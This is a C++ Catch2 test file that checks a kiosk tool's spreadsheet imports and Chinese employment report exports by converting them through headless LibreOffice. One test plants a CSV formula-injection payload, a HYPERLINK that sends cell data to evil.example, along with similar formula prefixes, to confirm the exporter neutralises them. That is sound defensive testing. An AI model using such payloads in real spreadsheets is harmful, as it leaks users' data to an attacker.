// A real spreadsheet program reads what we write and writes what we read: LibreOffice (headless)
// turns the fixture CSV into XLSX and XLS files for the importers, and turns every report XLSX we
// write back into CSV, which must match our own CSV cell by cell and carry the right numbers.
// Three soffice runs in all (each costs seconds), with a private profile so parallel runs never
// share one.
#include <catch2/catch.hpp>

#include "tests/forms/fixture_checks.hpp"
#include "tests/forms/fixtures.hpp"
#include "kiosk/forms/import.hpp"
#include "kiosk/forms/layouts.hpp"
#include "kiosk/forms/report_files.hpp"
#include "kiosk/domain/validate.hpp"

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <map>
#include <unistd.h>

using namespace jf;
using namespace jf::forms;
using namespace jf::test;
namespace fs = std::filesystem;

static const std::string kData = JF_FORMS_TEST_DATA;

namespace {

struct Workdir {
    fs::path dir;
    Workdir() {
        dir = fs::temp_directory_path() / ("jf-office-" + std::to_string(getpid()));
        fs::remove_all(dir);
        fs::create_directories(dir);
    }
    ~Workdir() { fs::remove_all(dir); }
};

// soffice --headless --convert-to FILTER --outdir OUT FILES...
void soffice(const fs::path& work, const std::string& filter, const std::string& infilter,
             const fs::path& outdir, const std::vector<fs::path>& files) {
    // No display for soffice: it must never touch the X server other tests draw on.
    std::string cmd = "env -u DISPLAY SAL_USE_VCLPLUGIN=svp soffice -env:UserInstallation=file://" + (work / "profile").string() +
                      " --headless --norestore";
    if (!infilter.empty()) cmd += " --infilter='" + infilter + "'";
    cmd += " --convert-to '" + filter + "' --outdir '" + outdir.string() + "'";
    for (auto& f : files)
        cmd += " '" + f.string() + "'";
    cmd += " >'" + (work / "soffice.log").string() + "' 2>&1";
    INFO(cmd);
    REQUIRE(std::system(cmd.c_str()) == 0);
}

std::string slurp(const fs::path& p) {
    std::ifstream in(p, std::ios::binary);
    return std::string((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
}

// A CSV file as rows of cells, trailing empty cells dropped, blank rows dropped.
std::vector<std::vector<std::string>> csv_grid(const fs::path& p) {
    std::string enc;
    std::string text = decode_text(slurp(p), &enc);
    std::vector<std::vector<std::string>> g;
    parse_csv(
        text,
        [&](int64_t, std::vector<std::string>& cells) {
            while (!cells.empty() && cells.back().empty())
                cells.pop_back();
            g.push_back(cells);
            return true;
        },
        ',');
    return g;
}

const std::string kCsvExport = "csv:Text - txt - csv (StarCalc):44,34,76,1";

} // namespace

TEST_CASE("LibreOffice-made XLSX and XLS listing files import like their CSV source") {
    Workdir w;
    fs::path src = w.dir / "listings.csv";
    fs::copy_file(kData + "/listings.csv", src);
    fs::copy_file(kData + "/targets.csv", w.dir / "targets.csv");
    fs::copy_file(kData + "/leniency.csv", w.dir / "leniency.csv");
    const std::string in_csv = "CSV:44,34,76,1";
    soffice(w.dir, "xlsx", in_csv, w.dir, {src, w.dir / "targets.csv", w.dir / "leniency.csv"});
    soffice(w.dir, "xls", in_csv, w.dir, {src, w.dir / "leniency.csv"});
    REQUIRE(fs::exists(w.dir / "listings.xlsx"));
    REQUIRE(fs::exists(w.dir / "listings.xls"));
    // What the form allows, from LibreOffice's own XLSX and XLS (full-width digits, two header
    // rows, numbers with extensions, no-break spaces, a filled-in footer).
    check_leniency_import(import_listings((w.dir / "leniency.xlsx").string()));
    check_leniency_import(import_listings((w.dir / "leniency.xls").string()));

    auto x = import_listings((w.dir / "listings.xlsx").string());
    CHECK(x.format == TableFormat::Xlsx);
    check_fixture_import(x);
    auto b = import_listings((w.dir / "listings.xls").string());
    CHECK(b.format == TableFormat::Xls);
    check_fixture_import(b);
    // The same listings, whatever the file format: the same identities.
    auto c = import_listings(kData + "/listings.csv");
    for (size_t i = 0; i < c.listings.size(); ++i) {
        CHECK(x.listings[i].id == c.listings[i].id);
        CHECK(b.listings[i].id == c.listings[i].id);
    }

    auto t = import_targets((w.dir / "targets.xlsx").string());
    REQUIRE(t.ok);
    REQUIRE(t.targets.size() == 3);
    CHECK(t.targets[2].unit == "三山经开区"); // one line, as 附件5 writes it
    CHECK(t.targets[2].figures[kPlacedYear] == 800);
    CHECK(t.problems.empty());
}

TEST_CASE("CSV forms open in LibreOffice with formulas as text and every digit of long numbers") {
    Workdir w;
    ReportInput in = two_unions();
    const std::string hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
    for (auto& p : in.placements) {
        p.employer_name = hostile;
        p.work_place = "+芜湖";
        in.revealed[p.attendee_id] = {"340225199110221234", "13855381234"};
    }
    in.placements[0].person_name = "@SUM(1+1)";
    in.placements[1].person_name = "-2+3";
    auto week = ReportWeek::parse("2024-W08")->period();
    ExportOptions opt;
    opt.kinds = {ReportKind::Detail, ReportKind::Insurance};
    opt.xlsx = false;
    auto r = write_reports(in, w.dir.string(), week, opt);
    REQUIRE(r.ok);
    REQUIRE(r.files.size() == 2);
    std::vector<fs::path> files(r.files.begin(), r.files.end());
    fs::create_directories(w.dir / "office");
    soffice(w.dir, kCsvExport, "CSV:44,34,76,1", w.dir / "office", files);
    auto detail = csv_grid(w.dir / "office" / fs::path(r.files[0]).filename());
    auto insurance = csv_grid(w.dir / "office" / fs::path(r.files[1]).filename());

    int rows = 0;
    for (auto& row : detail) {
        if (row.size() < 11 || row[0].empty() ||
            !std::isdigit(static_cast<unsigned char>(row[0][0])))
            continue;
        ++rows;
        CHECK(trim(row[2]) == "340225199110221234"); // not 3.40225199110221E+017
        CHECK(trim(row[3]) == "13855381234");
        CHECK(row[5] == "'" + hostile); // text, never the formula's 点我
        CHECK(row[4] == "'+芜湖");
        CHECK(trim(row[10]).size() == 8); // 20240216 stays a date as the form writes it
    }
    CHECK(rows == 3);
    bool at = false, minus = false;
    for (auto& row : detail)
        for (auto& c : row) {
            CHECK(c != "点我");
            at = at || c == "'@SUM(1+1)";
            minus = minus || c == "'-2+3";
        }
    CHECK(at);
    CHECK(minus);
    bool id_seen = false;
    for (auto& row : insurance)
        for (auto& c : row)
            id_seen = id_seen || trim(c) == "340225199110221234";
    CHECK(id_seen);
}

TEST_CASE("every report XLSX opens in LibreOffice with the form's headers, rows and totals") {
    Workdir w;
    ReportInput in = two_unions();
    auto targets = import_targets(kData + "/targets.csv").targets;
    REQUIRE(targets.size() == 3);
    ReportOptions opt;
    for (auto& t : targets)
        opt.units.push_back(t.unit);
    auto period = ReportWeek::parse("2024-W08")->period();
    Date filled{2024, 2, 22};

    std::map<ReportKind, std::string> stems;
    std::vector<fs::path> xlsx;
    fs::create_directories(w.dir / "ours");
    fs::create_directories(w.dir / "office");
    for (ReportKind k : {ReportKind::Detail, ReportKind::Summary, ReportKind::Progress,
                         ReportKind::Insurance, ReportKind::SpringBreeze}) {
        Check why;
        auto sheet = build_form(in, k, period, opt, targets, filled, &why);
        INFO(report_kind_name(k) << " " << why.key);
        REQUIRE(sheet);
        std::string stem = report_kind_name(k); // ASCII names keep the shell command simple
        std::string err;
        REQUIRE(write_xlsx(*sheet, (w.dir / (stem + ".xlsx")).string(), &err));
        REQUIRE(write_csv(*sheet, (w.dir / "ours" / (stem + ".csv")).string(), &err));
        stems[k] = stem;
        xlsx.push_back(w.dir / (stem + ".xlsx"));
    }
    soffice(w.dir, kCsvExport, "", w.dir / "office", xlsx);

    std::map<ReportKind, std::vector<std::vector<std::string>>> office;
    for (auto& [k, stem] : stems) {
        INFO(stem);
        auto ours = csv_grid(w.dir / "ours" / (stem + ".csv"));
        auto theirs = csv_grid(w.dir / "office" / (stem + ".csv"));
        // Our CSV carries BOM so Excel reads it as UTF-8.
        CHECK(slurp(w.dir / "ours" / (stem + ".csv")).rfind("\xEF\xBB\xBF", 0) == 0);
        REQUIRE(ours.size() == theirs.size());
        for (size_t r = 0; r < ours.size(); ++r) {
            INFO("row " << r + 1);
            // A program reading our CSV drops the tab that keeps digits as text (csv_cell).
            for (auto& c : ours[r])
                if (!c.empty() && c[0] == '\t') c.erase(0, 1);
            CHECK(ours[r] == theirs[r]);
        }
        office[k] = theirs;
    }

    // 附件6: title, 单位 line, the form's 11 columns, one row per placement, 序号 numbered.
    auto& d = office[ReportKind::Detail];
    CHECK(d[0][0] == "“工会送岗位 乐业在江淮”就业援助行动明细表（周报）");
    CHECK(d[1][0] == "单位：全部单位");
    std::vector<std::string> cols{"序号",         "实现就业人员姓名", "身份证号码",
                                  "手机号码",     "就业地",           "就业单位名称",
                                  "2023年就业地", "就业形式",         "签订劳动关系文书形式",
                                  "参与形式",     "落实就业日期"};
    CHECK(d[2] == cols);
    CHECK(d[3][0] == "1");
    CHECK(d[5][0] == "3");
    CHECK(d[5][10] == "20240222");
    CHECK(d[6][0].rfind("备注：1.零活用工", 0) == 0);
    CHECK(d[4][2] == "3402**********1234"); // a terminal's export: masked

    // 附件5: two header rows (merged cells), a row per union, 总计 = the detail's 3 rows.
    auto& s = office[ReportKind::Summary];
    CHECK(s[2][0] == "单位(总工会)");
    CHECK(s[2][3] == "举办招聘会场次");
    CHECK(s[2][6] == "其中，重点群体稳定就业人员");
    CHECK(s[3][3] == "线上(场)");
    CHECK(s[3][10] == "残疾人(人)");
    REQUIRE(s.size() >= 8);
    CHECK(s[4] ==
          std::vector<std::string>{"无为市", "2", "14", "0", "1", "2", "1", "0", "0", "1", "0"});
    CHECK(s[5] ==
          std::vector<std::string>{"南陵县", "1", "5", "1", "0", "1", "0", "1", "0", "0", "1"});
    CHECK(s[6] ==
          std::vector<std::string>{"三山经开区", "0", "0", "0", "0", "0", "0", "0", "0", "0", "0"});
    CHECK(s[7] ==
          std::vector<std::string>{"总计", "3", "19", "1", "1", "3", "1", "1", "0", "1", "1"});
    int detail_rows = 0;
    for (size_t r = 3;
         r < d.size() && !d[r].empty() && std::isdigit(static_cast<unsigned char>(d[r][0][0])); ++r)
        ++detail_rows;
    CHECK(std::stoi(s[7][5]) == detail_rows); // note 6, as LibreOffice reads both files

    // 附件1: targets, achievements and rates for each measure, 合计.
    auto& p = office[ReportKind::Progress];
    CHECK(p[2][0] == "单位");
    CHECK(p[2][1] == "集中行动归集企业数（家）");
    CHECK(p[3][1] == "目标");
    CHECK(p[3][3] == "完成率");
    CHECK(p[4][0] == "无为市");
    CHECK(p[4][13] == "480"); // 集中行动促进稳定就业人数 target
    CHECK(p[4][14] == "3");
    CHECK(p[4][15] == "0.6%");
    CHECK(p[7][0] == "合计");
    CHECK(p[7][1] == "480");
    CHECK(p[7][14] == "4");

    // Insurance: p3 and p4 signed a 劳动合同 in the week (p2's offer letter does not count).
    auto& ins = office[ReportKind::Insurance];
    CHECK(ins[2][8] == "保障金额(元)");
    CHECK(ins[3][2] == "张p3");
    CHECK(ins[4][2] == "张p4");
    CHECK(ins[3][8] == "50");
    CHECK(ins[3][9] == "25");
    CHECK(ins[5] ==
          std::vector<std::string>{"合计", "2人", "", "", "", "", "", "", "100", "50", "50"});

    // 春风行动: 总计 first as the form has it; columns the records cannot count stay blank.
    auto& sb = office[ReportKind::SpringBreeze];
    CHECK(sb[0][0] == "武汉市2024年“春风行动”工作情况统计表");
    CHECK(sb[3][1] == "发放宣传资料份数");
    CHECK(sb[3][6] == "组织参加职业技能培训人数");
    CHECK(sb[4][7] == "其中：享受培训补贴人数");
    CHECK(sb[5][0] == "甲");
    CHECK(sb[6][0] == "总计");
    CHECK(sb[6].size() >= 6);
    CHECK(sb[6][1] == "");  // 发放宣传资料份数: never invented
    CHECK(sb[6][2] == "1"); // one 专场 fair in the week
    CHECK(sb[6][5] == "1"); // p1, a migrant worker, started on 16 Feb
}

TEST_CASE("a 附件5/附件6 pair is checked against note 6; 附件1 needs targets") {
    ReportInput in = two_unions();
    auto period = ReportWeek::parse("2024-W08")->period();
    Check why;
    REQUIRE(build_form(in, ReportKind::Summary, period, {}, {}, Date{2024, 2, 22}, &why));
    auto pair = build_weekly_pair(in, period, {}, &why);
    REQUIRE(pair);
    pair->detail.rows.pop_back();
    CHECK(check_note6(pair->summary, pair->detail).key == "err.report.note6");
    CHECK_FALSE(build_form(in, ReportKind::Progress, period, {}, {}, Date{2024, 2, 22}, &why));
    CHECK(why.key == "err.report.no_targets");
}

// A spreadsheet row in flat ODF: plain strings, "=…" as a formula (OpenFormula syntax), "" as
// an empty cell.
static std::string fods_row(const std::vector<std::string>& cells) {
    auto esc = [](const std::string& t) {
        std::string o;
        for (char c : t)
            o += c == '&' ? "&amp;" : c == '<' ? "&lt;" : c == '"' ? "&quot;" : std::string(1, c);
        return o;
    };
    std::string r = "<table:table-row>";
    for (auto& c : cells)
        r += c.empty()     ? "<table:table-cell/>"
             : c[0] == '=' ? "<table:table-cell table:formula=\"of:" + esc(c) + "\"/>"
                           : "<table:table-cell office:value-type=\"string\"><text:p>" + esc(c) +
                                 "</text:p></table:table-cell>";
    return r + "</table:table-row>\n";
}

TEST_CASE("formula cells of a LibreOffice-made XLS import with the values they show") {
    Workdir w;
    // LibreOffice computes every formula and stores its result in the XLS: a number, a string
    // (in a STRING record, continued when long), a boolean, an error, an empty string.
    fs::path src = w.dir / "formulas.fods";
    {
        std::ofstream out(src, std::ios::binary);
        out << "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
               "<office:document "
               "xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" "
               "xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" "
               "xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" "
               "xmlns:of=\"urn:oasis:names:tc:opendocument:xmlns:of:1.2\" office:version=\"1.2\" "
               "office:mimetype=\"application/vnd.oasis.opendocument.spreadsheet\">\n"
               "<office:body><office:spreadsheet><table:table table:name=\"附件4\">\n"
            << fods_row({"单位名称", "岗位名称", "招聘人数", "工作地点", "联系人", "联系电话",
                         "招聘截止日期", "备注", "职位描述及要求"})
            << fods_row({"芜湖港务有限公司", "装卸工", "=2+3", "芜湖", "王先生", "13855381234",
                         "20240410", "=\"备\"&\"注\"", "=\"\""})
            << fods_row({"奇瑞汽车股份有限公司", "焊工", "=SUM(4;3)",
                         "=IF(1=1;\"芜\"&\"湖\";\"x\")", "孙女士", "13855381235", "=20240400+10",
                         "=1=1", "=REPT(\"岗\";5000)"})
            << fods_row({"芜湖纺织有限公司", "挡车工", "=1/0", "芜湖", "赵女士", "13855381236",
                         "20240410", "", ""})
            << "</table:table></office:spreadsheet></office:body></office:document>\n";
    }
    soffice(w.dir, "xls", "", w.dir, {src});
    REQUIRE(fs::exists(w.dir / "formulas.xls"));
    auto r = import_listings((w.dir / "formulas.xls").string());
    REQUIRE(r.ok);
    CHECK(r.format == TableFormat::Xls);
    for (auto& p : r.problems)
        UNSCOPED_INFO("problem row " << p.row << " " << p.column << " " << p.key);
    REQUIRE(r.listings.size() == 2);
    CHECK(r.listings[0].headcount == 5); // not blank, counted as one post
    CHECK(r.listings[0].remarks == "备注");
    CHECK(r.listings[0].description.empty());
    CHECK(r.listings[1].headcount == 7);
    CHECK(r.listings[1].work_location == "芜湖");
    CHECK(r.listings[1].deadline == Date{2024, 4, 10});
    CHECK(r.listings[1].remarks == "TRUE");
    std::string posts;
    for (int i = 0; i < 5000; ++i)
        posts += "岗";
    CHECK(r.listings[1].description == posts);
    // An error result (#DIV/0!) is a bad 招聘人数, told, not a blank counted as one post.
    REQUIRE(r.problems.size() == 1);
    CHECK(r.problems[0].row == 4);
    CHECK(r.problems[0].column == "招聘人数");
    CHECK(r.problems[0].key == "err.listing.headcount");
}
